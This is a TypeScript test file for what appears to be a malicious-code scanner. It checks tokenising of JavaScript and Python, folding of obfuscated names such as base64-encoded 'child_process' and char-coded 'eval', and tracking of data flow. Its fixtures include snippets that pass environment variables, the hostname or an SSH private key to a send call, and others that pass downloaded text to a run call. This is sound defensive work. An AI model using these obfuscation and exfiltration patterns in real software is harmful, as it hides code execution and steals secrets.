import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { has, Mark } from "../marks.ts";
import { flowOf } from "./flow.ts";
import { fold } from "./fold.ts";
import { tokeniseJavascript } from "./javascript.ts";
import { tokenisePython } from "./python.ts";
import type { Language, Token } from "./token.ts";

function shown(tokens: readonly Token[]): string {
  return tokens
    .map(({ kind, text, values }) =>
      kind === "string"
        ? JSON.stringify(text)
        : kind === "list"
          ? JSON.stringify(values)
          : kind === "module"
            ? `<${text}>`
            : text,
    )
    .join(" ");
}

function tokens(text: string, language: Language): Token[] {
  return (language === "python" ? tokenisePython : tokeniseJavascript)(text).tokens;
}

const script = (text: string): string => shown(tokens(text, "javascript"));
const python = (text: string): string => shown(tokens(text, "python"));
const folded = (text: string, language: Language = "javascript"): string =>
  shown(fold(tokens(text, language), language).tokens);

describe("tokens of JavaScript", () => {
  const cases: readonly [text: string, tokens: string][] = [
    ["a/*b*/ + c // d\n'e'", 'a + c "e"'],
    ["#!/usr/bin/env node\na", "a"],
    [
      String.raw`"\x61\u0062\u{63}\
d\n"`,
      '"abcd\\n"',
    ],
    [String.raw`\u0065val(1)`, "eval ( 1 )"],
    ["a = b / c / d", "a = b / c / d"],
    ["a = /[/'\"]/g.test(b)", "a = /[/'\"]/g . test ( b )"],
    ["return /'/", "return /'/"],
    ["a?.b?.[c]?.(d) ?? e", "a . b [ c ] ( d ) ?? e"],
    ["`a${b}c`", '( "a" + ( b ) + "c" )'],
    ["`a${`b${c}`}`", '( "a" + ( ( "b" + ( c ) + "" ) ) + "" )'],
    ["`${{a: 1}}`", '( "" + ( { a : 1 } ) + "" )'],
    ["0x1F + 1_000 + 10n + .5", "31 + 1000 + 10 + 0.5"],
    ["'no end\nb", '"no end" b'],
  ];
  for (const [text, expected] of cases) test(JSON.stringify(text), () => assert.equal(script(text), expected));
});

describe("tokens of Python", () => {
  const cases: readonly [text: string, tokens: string][] = [
    ["if a:\n    b\nc\n", "if a : ; { b ; } c ;"],
    ["a = (1,\n  2) # d\n", "a = ( 1 , 2 ) ;"],
    ["a = \\\n 1", "a = 1 ;"],
    ['"""a\nb"""', '"a\\nb" ;'],
    [String.raw`r"\n" b"\x41"`, '"\\\\n" "A" ;'],
    ['f"a{b}c{{d}}"', '( "a" + ( b ) + "c{d}" ) ;'],
    ["f'{a!r:>{b}}'", '( "" + ( a ! r : > { b } ) + "" ) ;'],
    ["𝓮𝔁𝓮𝓬(a)", "exec ( a ) ;"],
    ["exec code", "exec ( code ) ;"],
    ["'no end\nb", '"no end" ; b ;'],
  ];
  for (const [text, expected] of cases) test(JSON.stringify(text), () => assert.equal(python(text), expected));
});

describe("constants are folded", () => {
  const base64 = Buffer.from("child_process").toString("base64");
  const cases: readonly [text: string, folded: string, language?: Language][] = [
    ['require("chi" + "ld_" + "process")', "<child_process>"],
    ['require("node:os")', "<os>"],
    [`require(Buffer.from("${base64}", "base64").toString())`, "<child_process>"],
    [`require(atob("${base64}"))`, "<child_process>"],
    ['globalThis["ev" + "al"](a)', "globalThis . eval ( a )"],
    ['["ex", "ec"].join("")', '"exec"'],
    ['"cexe".split("").reverse().join("")', '"exec"'],
    ["String.fromCharCode(101, 118, 97, 108)", '"eval"'],
    ["String.fromCharCode(...[101, 118])", '"ev"'],
    ["[101, 118, 97, 108].map((c) => String.fromCharCode(c)).join('')", '"eval"'],
    ["[100, 119, 96, 109].map(c => String.fromCharCode(c ^ 1)).join('')", '"eval"'],
    ['"eXvXaXl".replace(/X/g, "")', '"eval"'],
    ['const a = "ev"; const b = a + "al"; f[b]', 'const a = "ev" ; const b = "eval" ; f . eval'],
    ['let a = "1"; a = "2"; f(a)', 'let a = "1" ; a = "2" ; f ( a )'],
    ["(0, a.b)(c)", "a . b ( c )"],
    ["`a${'b'}c`", '"abc"'],
    ['unescape("%65%76")', '"ev"'],
    ["a - 1 + 2", "a - 1 + 2"],
    ['a * "b" + "c"', 'a * "b" + "c"'],
    ['"a" + "b".c', '"a" + "b" . c'],
    ["function (d) { }", "function ( d ) { }"],
    [
      'const _ = (s) => Buffer.from(s, "base64").toString(); require(_("b3M="))',
      'const _ = s => Buffer . from ( s , "base64" ) . toString ( ) ; <os>',
    ],
    ['__import__("o" + "s").system(a)', "<os> . system ( a ) ;", "python"],
    ['getattr(os, "sys" "tem")(a)', "os . system ( a ) ;", "python"],
    ['"metsys"[::-1]', '"system" ;', "python"],
    ['"".join(chr(c) for c in [101, 120])', '"ex" ;', "python"],
    ['"".join(map(chr, [101, 120]))', '"ex" ;', "python"],
    ['bytes.fromhex("6578").decode()', '"ex" ;', "python"],
    ['import base64 as b\nb.b64decode("ZXhlYw==")', 'import base64 as b ; "exec" ;', "python"],
    ['codecs.decode("rkrp", "rot13")', '"exec" ;', "python"],
    ['os.__getattribute__("system")(a)', "os . system ( a ) ;", "python"],
  ];
  for (const [text, expected, language] of cases) test(text, () => assert.equal(folded(text, language), expected));
});

/** The marks of all arguments of the one call with a path. */
function handed(text: string, path: string, language: Language = "javascript"): number {
  const { calls } = flowOf(fold(tokens(text, language), language).tokens, language);
  const found = calls.filter((call) => call.path === path);
  assert.equal(found.length, 1, `${found.length} calls of ${path}: ${calls.map((call) => call.path).join(", ")}`);
  return found[0]?.marks ?? 0;
}

describe("values go", () => {
  const cases: readonly [title: string, text: string, path: string, marks: number, language?: Language][] = [
    ["into variables", "const a = JSON.stringify(process.env); send(a)", "send", Mark.environment],
    ["by an alias of the environment", "const { env } = process; send(env)", "send", Mark.environment],
    ["into members of an object", "const a = {}; a.b = require('os').hostname(); send(a)", "send", Mark.hostName],
    ["into lists", "const a = []; a.push(process.env); send(a)", "send", Mark.environment],
    ["through functions of the file", "function f(x) { return x + 1 } send(f(process.env))", "send", Mark.environment],
    ["to parameters", "function f(x) { send(x) } f(process.env)", "send", Mark.environment],
    [
      "to callbacks",
      "fetch('https://a.example.com').then((r) => r.text()).then((t) => run(t))",
      "run",
      Mark.downloaded,
    ],
    [
      "to callbacks of events",
      "require('https').get('https://a.example.com', (r) => { let t = ''; r.on('data', (c) => { t += c }); r.on('end', () => run(t)) })",
      "run",
      Mark.downloaded,
    ],
    [
      "to functions that are named",
      "function got(t) { run(t) } fetch('https://a.example.com').then(got)",
      "run",
      Mark.downloaded,
    ],
    ["out of loops", "for (const [k, v] of Object.entries(process.env)) send(v)", "send", Mark.environment],
    ["into methods", "class A { deliver(x) { send(x) } } new A().deliver(process.env)", "send", Mark.environment],
    [
      "into Python's files",
      "import os\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n    send(f.read())\n",
      "send",
      Mark.credentials,
      "python",
    ],
    [
      "through Python's loops",
      "import os\nfor k, v in os.environ.items():\n    send(v)\n",
      "send",
      Mark.environment,
      "python",
    ],
    [
      "into attributes",
      "import socket\nclass A:\n    def __init__(self):\n        self.h = socket.gethostname()\n    def go(self):\n        send(self.h)\n",
      "send",
      Mark.hostName,
      "python",
    ],
    ["into formatted texts", "import getpass\nsend(f'{getpass.getuser()}!')\n", "send", Mark.userName, "python"],
    ["through lambdas", "import base64\nd = lambda x: base64.b64decode(x)\nrun(d(y))\n", "run", Mark.decoded, "python"],
  ];
  for (const [title, text, path, marks, language] of cases) {
    test(title, () => assert.ok(has(handed(text, path, language), marks)));
  }

  const apart: readonly [title: string, text: string, path: string, marks: number, language?: Language][] = [
    ["one variable is not the environment", "send(process.env.HOME)", "send", Mark.environment],
    ["nor by its alias", "const env = process.env; send(env.HOME)", "send", Mark.environment],
    [
      "two functions have names of their own",
      "function f() { const a = process.env } function g(a) { send(a) }",
      "send",
      Mark.environment,
    ],
    ["hashes say nothing", "send(require('crypto').createHash('md5').update(process.env))", "send", Mark.downloaded],
    ["a function that is called so is no global", "function atob(x) { return 1 } send(f(1))", "send", Mark.decoded],
    ["a key is no value", "const a = process.env; send({ a: 1 })", "send", Mark.environment],
  ];
  for (const [title, text, path, marks, language] of apart) {
    test(`${title}`, () => assert.ok(!has(handed(text, path, language), marks)));
  }
});
